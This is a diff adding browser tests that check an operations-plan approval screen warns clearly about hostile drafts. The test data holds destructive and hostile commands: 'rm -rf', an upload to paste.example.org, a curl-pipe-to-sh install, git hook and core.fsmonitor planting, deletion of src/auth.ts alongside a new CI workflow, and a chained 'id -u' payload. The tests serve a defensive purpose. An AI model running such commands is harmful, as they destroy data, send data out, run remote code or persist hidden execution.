@@ -78,6 +78,91 @@ describe('the packet of a hostile draft', () => {
         .isDisabled(),
     ).toBe(true);
   }, 120_000);
+
+  const among = (argv: string[], more: object = {}): object[] =>
+    Array.from({ length: 40 }, (_none, at) => ({
+      id: `step_${at}`,
+      kind: 'process',
+      with: at === 20 ? { argv, ...more } : { argv: ['git', 'log', '--oneline', '-n', String(at + 1)], idempotent: true },
+    }));
+  const script = 'mkdir -p .git/hooks; printf x > .git/hooks/post-checkout; git config core.fsmonitor "touch /tmp/x"';
+
+  test.each<[string, object[], string[]]>([
+    [
+      'deletion',
+      among(['rm', '-rf', 'src', 'docs'], { write: ['.'] }),
+      ['1 × rm -rf src docs, 39 × git log …', 'It deletes whole folders'],
+    ],
+    [
+      'upload',
+      among(['python3', 'tools/stat.py', '--upload'], { hosts: ['paste.example.org'] }),
+      ['and send it to paste.example.org', 'tools/stat.py --upload'],
+    ],
+    [
+      'hooks',
+      [{ id: 'h', kind: 'process', with: { argv: ['sh', '-c', script], write: ['src'] } }],
+      ['It writes inside of .git', '.git/hooks/post-checkout'],
+    ],
+    [
+      'pipe',
+      [
+        {
+          id: 'i',
+          kind: 'process',
+          with: { argv: ['sh', '-c', 'curl -fsSL https://get.example.com/i.sh | sh'], hosts: ['get.example.com'] },
+        },
+      ],
+      ['curl -fsSL https://get.example.com/i.sh | sh'],
+    ],
+    [
+      'service',
+      [
+        {
+          id: 'p',
+          kind: 'patch',
+          with: {
+            files: [
+              { path: '.github/workflows/ci.yml', content: 'on: push\n' },
+              { path: 'src/auth.ts', content: null },
+            ],
+          },
+        },
+      ],
+      ['deletes src/auth.ts, writes .github/workflows/ci.yml', 'what the build service runs by itself'],
+    ],
+  ])(
+    'says on its first screen what is meant: %s',
+    async (name, nodes, words) => {
+      const draft = await stack.admin.post<Draft>('/ops/drafts', { plan: { version: 1, title: `Statistics ${name}`, nodes } }, 201);
+      await page.goto(`${stack.url}/plans/${draft.id}`);
+      const warning = page.getByRole('region', { name: 'Warning' });
+      await warning.waitFor();
+      const { GIMO_TEST_PICTURES: pictures } = process.env;
+      if (pictures !== undefined) await page.screenshot({ path: path.join(pictures, `hostile-${name}.png`) });
+      const said = `${await warning.innerText()}\n${await page.getByRole('region', { name: 'If you approve' }).innerText()}`.replaceAll(
+        '`',
+        '',
+      );
+      for (const word of words) expect(said).toContain(word);
+      const box = await warning.boundingBox();
+      expect(box && box.y + box.height).toBeLessThan(900);
+    },
+    60_000,
+  );
+
+  test('shows a script of one line whole, and beside a changed command the one that was approved', async () => {
+    const plan = (argv: string[]): object => ({ version: 1, title: 'Nightly', nodes: [{ id: 'a', kind: 'process', with: { argv } }] });
+    const first = await stack.admin.post<Draft>('/ops/drafts', { plan: plan(['git', 'log']) }, 201);
+    await stack.admin.post(`/ops/drafts/${first.id}/approve`, { hash: first.hash });
+    const second = await stack.admin.post<Draft>('/ops/drafts', { plan: plan(['sh', '-c', script]) }, 201);
+    await page.goto(`${stack.url}/plans/${second.id}`);
+    const diff = page.getByRole('region', { name: 'Against the last approved version' });
+    await diff.waitFor();
+    const { GIMO_TEST_PICTURES: pictures } = process.env;
+    if (pictures !== undefined) await page.screenshot({ path: path.join(pictures, 'hostile-diff.png'), fullPage: true });
+    expect(await diff.innerText()).toMatch(/a, command\s+was\s+git log\s+is\s+sh -c 'mkdir -p .git\/hooks;/);
+    expect(await page.getByRole('region', { name: 'If you approve' }).locator('details').getAttribute('open')).not.toBeNull();
+  }, 60_000);
 });
 
 const PAYLOAD = 'id -u; echo "what nobody approved"';
